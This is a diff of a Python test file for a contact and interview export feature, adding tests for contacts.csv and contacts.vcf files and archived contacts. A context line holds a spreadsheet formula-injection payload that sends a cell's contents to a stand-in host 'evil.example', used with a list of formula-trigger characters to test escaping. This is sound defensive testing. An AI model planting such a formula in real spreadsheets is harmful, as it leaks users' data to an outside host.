@@ -17,6 +17,8 @@ from lib.domain.snapshot import CLOCK, COLUMNS, DAY, LIST, MOMENT, Snapshot, typ
 from lib.domain.vocabulary import GoalKind
 from lib.exchange.everything import READ_ME, everything_zip, tables_of
 from lib.exchange.interview_log import interview_log_csv
+from lib.exchange.people import ReadPeople
+from lib.exchange.recognise import read_people
 from lib.method.sample import sample_commands
 from lib.store.store import Store
 from lib.store.workspace import Workspace
@@ -24,6 +26,7 @@ from lib.views.interviews import interviews
 from tests.cast import ADA, BERLIN, NOW, Clock, a_contact, a_goal, an_interview, only, scheduled
 
 EXACT = NOW.replace(microsecond=123_456)
+FILES = ("everything.json", "interviews.csv", "contacts.csv", "contacts.vcf")
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
 
 
@@ -62,7 +65,15 @@ def _read(table: str, column: str, cell: Any) -> Any:
     return tuple(cell) if column == "tags" else cell
 
 
-def test_every_table_with_every_column_comes_back_as_it_was(sample: Snapshot) -> None:
+def test_every_table_with_every_column_comes_back_as_it_was(workspace: Workspace, sample: Snapshot) -> None:
+    one, other = sample.contacts["id"][:2]
+    workspace.do(commands.KeepApart(contact_id=one, other_id=other))
+    weights = {"relevance": 3, "connects": 0, "willing": 1, "fresh": 0, "welcome": 0, "viewpoint": 1}
+    workspace.do(commands.ChooseWeights(goal_id=sample.goals["id"][0], weights=weights))
+    person = commands.ImportedContact(name="Null", also={"email": ("two@example.org",), "name": ("NA",)})
+    columns = commands.ColumnChoice(signature="Who", columns={"Who": "name"})
+    workspace.do(commands.ImportContacts(source="a table", contacts=(person,), columns=columns))
+    sample = workspace.snapshot()
     tables = tables_of(sample)
     assert set(tables) == set(COLUMNS)
     for name, rows in tables.items():
@@ -107,10 +118,10 @@ def test_the_archive_has_a_folder_for_each_workspace_and_says_what_is_in_it(work
     files = opened(everything_zip({"own": snapshot, "sample": snapshot}, BERLIN, EXACT))
     assert list(files) == [
         "README.txt",
-        *(f"{kind}/{file}" for kind in ("own", "sample") for file in ("everything.json", "interviews.csv")),
+        *(f"{kind}/{file}" for kind in ("own", "sample") for file in FILES),
     ]
     assert files["README.txt"].decode() == READ_ME
-    for file in ("everything.json", "interviews.csv", "own", "sample", "ISO 8601"):
+    for file in (*FILES, "own", "sample", "ISO 8601"):
         assert file in READ_ME
 
 
@@ -129,6 +140,16 @@ def test_of_no_workspace_there_is_an_archive_too() -> None:
 def test_the_spreadsheet_is_the_interview_log(sample: Snapshot) -> None:
     files = opened(everything_zip({"own": sample}, BERLIN, EXACT))
     assert files["own/interviews.csv"] == interview_log_csv(sample, interviews(sample, BERLIN), BERLIN)
+
+
+def test_the_files_of_contacts_have_archived_people_too(workspace: Workspace) -> None:
+    a_contact(workspace, "Amara Obi")
+    workspace.do(commands.ArchiveContact(contact_id=a_contact(workspace, "Bo Lind")))
+    files = opened(everything_zip({"own": workspace.snapshot()}, BERLIN, EXACT))
+    for content in (files["own/contacts.csv"], files["own/contacts.vcf"]):
+        people = read_people(content)
+        assert isinstance(people, ReadPeople)
+        assert {person.name: person.archived for person in people.people} == {"Amara Obi": False, "Bo Lind": True}
 
 
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\N{FULLWIDTH EQUALS SIGN}", "  ="])
@@ -152,4 +173,7 @@ def test_the_kinds_of_columns_that_json_does_not_have_are_those_that_were_tried(
     odd = {
         (table, name) for table, columns in COLUMNS.items() for name, dtype in columns.items() if dtype in {LIST, CLOCK}
     }
-    assert odd == {("contacts", "tags"), ("interviews", "starts_time")}
+    assert odd == {
+        *(("contacts", "tags"), ("contacts", "also"), ("goals", "weights"), ("column_choices", "columns")),
+        ("interviews", "starts_time"),
+    }
